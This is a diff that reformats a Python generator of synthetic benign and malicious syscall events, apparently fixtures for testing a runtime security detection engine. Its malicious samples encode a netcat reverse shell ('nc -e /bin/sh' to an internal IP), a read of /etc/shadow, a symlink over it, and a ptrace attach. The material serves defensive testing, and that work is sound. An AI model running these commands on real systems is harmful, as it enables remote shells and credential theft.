@@ -32,32 +32,67 @@ CONTAINER_PROCS = [
     ("python", "gunicorn", "/usr/local/bin/python", "-m app"),
     ("redis-server", "containerd-shim", "/usr/local/bin/redis-server", "*:6379"),
 ]
-FILES = ["/usr/lib/x86_64-linux-gnu/libc.so.6", "/etc/ld.so.cache", "/proc/self/stat",
-         "/etc/nsswitch.conf", "/usr/share/zoneinfo/UTC", "/var/log/nginx/access.log",
-         "/tmp/cache.bin", "/etc/hosts", "/app/config.yaml", "/dev/null"]
+FILES = [
+    "/usr/lib/x86_64-linux-gnu/libc.so.6",
+    "/etc/ld.so.cache",
+    "/proc/self/stat",
+    "/etc/nsswitch.conf",
+    "/usr/share/zoneinfo/UTC",
+    "/var/log/nginx/access.log",
+    "/tmp/cache.bin",
+    "/etc/hosts",
+    "/app/config.yaml",
+    "/dev/null",
+]
 ADDRS = ["10.0.3.7:5432", "10.0.3.9:6379", "172.17.0.3:8080", "93.184.216.34:443"]
 
 
-def _proc_fields(proc: tuple[str, str, str, str], container: bool, rnd: random.Random) -> dict[str, Any]:
+def _proc_fields(
+    proc: tuple[str, str, str, str], container: bool, rnd: random.Random
+) -> dict[str, Any]:
     name, parent, exe, args = proc
     cid = f"{rnd.getrandbits(48):012x}" if container else "host"
     return {
-        "proc.name": name, "proc.exe": exe, "proc.exepath": exe, "proc.args": args,
-        "proc.cmdline": f"{name} {args}", "proc.pname": parent, "proc.pcmdline": parent,
-        "proc.pexe": "/usr/bin/" + parent, "proc.pexepath": "/usr/bin/" + parent,
-        "proc.aname[1]": parent, "proc.aname[2]": "systemd", "proc.aname[3]": "<NA>",
-        "proc.tty": 34816 if name == "bash" else 0, "proc.pid": rnd.randint(100, 60000),
+        "proc.name": name,
+        "proc.exe": exe,
+        "proc.exepath": exe,
+        "proc.args": args,
+        "proc.cmdline": f"{name} {args}",
+        "proc.pname": parent,
+        "proc.pcmdline": parent,
+        "proc.pexe": "/usr/bin/" + parent,
+        "proc.pexepath": "/usr/bin/" + parent,
+        "proc.aname[1]": parent,
+        "proc.aname[2]": "systemd",
+        "proc.aname[3]": "<NA>",
+        "proc.tty": 34816 if name == "bash" else 0,
+        "proc.pid": rnd.randint(100, 60000),
         "proc.vpid": 1 if container else 0,
-        "proc.cwd": "/root/", "user.name": "root", "user.uid": 0, "user.loginuid": -1,
-        "user.loginname": "<NA>", "group.gid": 0, "group.name": "root",
-        "container.id": cid, "container.name": "app" if container else "host",
+        "proc.cwd": "/root/",
+        "user.name": "root",
+        "user.uid": 0,
+        "user.loginuid": -1,
+        "user.loginname": "<NA>",
+        "group.gid": 0,
+        "group.name": "root",
+        "container.id": cid,
+        "container.name": "app" if container else "host",
         "container.image.repository": "docker.io/library/app" if container else "",
-        "container.image.tag": "1.2", "container.privileged": False,
-        "proc.is_exe_upper_layer": False, "proc.is_exe_from_memfd": False,
-        "proc.sname": "bash", "proc.is_vpgid_leader": False,
-        "proc.exe_ino.ctime": 1, "proc.exe_ino.mtime": 1, "evt.res": "SUCCESS",
-        "evt.rawres": 0, "evt.failed": False, "k8s.ns.name": "default", "k8s.pod.name": "app-1",
-        "thread.cap_effective": "", "thread.cap_permitted": "",
+        "container.image.tag": "1.2",
+        "container.privileged": False,
+        "proc.is_exe_upper_layer": False,
+        "proc.is_exe_from_memfd": False,
+        "proc.sname": "bash",
+        "proc.is_vpgid_leader": False,
+        "proc.exe_ino.ctime": 1,
+        "proc.exe_ino.mtime": 1,
+        "evt.res": "SUCCESS",
+        "evt.rawres": 0,
+        "evt.failed": False,
+        "k8s.ns.name": "default",
+        "k8s.pod.name": "app-1",
+        "thread.cap_effective": "",
+        "thread.cap_permitted": "",
     }
 
 
@@ -71,19 +106,44 @@ def _benign(rnd: random.Random) -> dict[str, Any]:
         f["evt.arg.flags"] = ""
     elif r < 0.8:
         path = rnd.choice(FILES)
-        f.update({"evt.type": rnd.choice(["openat", "openat", "open", "openat2"]),
-                  "fd.name": path, "fd.nameraw": path, "fd.directory": path.rsplit("/", 1)[0] or "/",
-                  "fd.filename": path.rsplit("/", 1)[1], "fd.typechar": "f", "fd.num": 3,
-                  "fd.type": "file", "evt.is_open_read": True, "evt.is_open_write": False,
-                  "evt.arg.flags": "O_RDONLY|O_CLOEXEC", "evt.is_open_exec": False})
+        f.update(
+            {
+                "evt.type": rnd.choice(["openat", "openat", "open", "openat2"]),
+                "fd.name": path,
+                "fd.nameraw": path,
+                "fd.directory": path.rsplit("/", 1)[0] or "/",
+                "fd.filename": path.rsplit("/", 1)[1],
+                "fd.typechar": "f",
+                "fd.num": 3,
+                "fd.type": "file",
+                "evt.is_open_read": True,
+                "evt.is_open_write": False,
+                "evt.arg.flags": "O_RDONLY|O_CLOEXEC",
+                "evt.is_open_exec": False,
+            }
+        )
     else:
         addr = rnd.choice(ADDRS)
         ip, port = addr.split(":")
-        f.update({"evt.type": "connect", "fd.name": f"10.0.0.2:41234->{addr}", "fd.typechar": "4",
-                  "fd.type": "ipv4", "fd.num": 5, "fd.sip": ip, "fd.sport": int(port),
-                  "fd.rip": ip, "fd.rport": int(port), "fd.lport": 41234, "fd.l4proto": "tcp",
-                  "fd.sockfamily": "ip", "fd.connected": True, "evt.res": "EINPROGRESS",
-                  "evt.rawres": -115})
+        f.update(
+            {
+                "evt.type": "connect",
+                "fd.name": f"10.0.0.2:41234->{addr}",
+                "fd.typechar": "4",
+                "fd.type": "ipv4",
+                "fd.num": 5,
+                "fd.sip": ip,
+                "fd.sport": int(port),
+                "fd.rip": ip,
+                "fd.rport": int(port),
+                "fd.lport": 41234,
+                "fd.l4proto": "tcp",
+                "fd.sockfamily": "ip",
+                "fd.connected": True,
+                "evt.res": "EINPROGRESS",
+                "evt.rawres": -115,
+            }
+        )
     return f
 
 
@@ -94,17 +154,28 @@ def _malicious(rnd: random.Random) -> dict[str, Any]:
         f.update({"evt.type": "execve", "proc.tty": 34816, "evt.arg.flags": ""})
     elif kind == 1:  # sensitive file read by an untrusted program
         f = _proc_fields(("cat", "bash", "/usr/bin/cat", "/etc/shadow"), False, rnd)
-        f.update({"evt.type": "openat", "fd.name": "/etc/shadow", "fd.directory": "/etc",
-                  "fd.filename": "shadow", "fd.typechar": "f", "fd.num": 3, "fd.type": "file",
-                  "evt.is_open_read": True, "evt.is_open_write": False,
-                  "evt.arg.flags": "O_RDONLY"})
+        f.update(
+            {
+                "evt.type": "openat",
+                "fd.name": "/etc/shadow",
+                "fd.directory": "/etc",
+                "fd.filename": "shadow",
+                "fd.typechar": "f",
+                "fd.num": 3,
+                "fd.type": "file",
+                "evt.is_open_read": True,
+                "evt.is_open_write": False,
+                "evt.arg.flags": "O_RDONLY",
+            }
+        )
     elif kind == 2:  # netcat with -e in a container
         f = _proc_fields(("nc", "sh", "/usr/bin/nc", "-e /bin/sh 10.0.0.9 4444"), True, rnd)
         f.update({"evt.type": "execve", "evt.arg.flags": ""})
     elif kind == 3:  # symlink over a sensitive file
         f = _proc_fields(("ln", "bash", "/usr/bin/ln", "-s /etc/shadow /tmp/x"), False, rnd)
-        f.update({"evt.type": "symlinkat", "evt.arg.target": "/etc/shadow",
-                  "evt.arg.linkpath": "/tmp/x"})
+        f.update(
+            {"evt.type": "symlinkat", "evt.arg.target": "/etc/shadow", "evt.arg.linkpath": "/tmp/x"}
+        )
     elif kind == 4:  # ptrace attach
         f = _proc_fields(("gdb", "bash", "/usr/bin/gdb", "-p 1234"), False, rnd)
         f.update({"evt.type": "ptrace", "evt.arg.request": "PTRACE_ATTACH"})
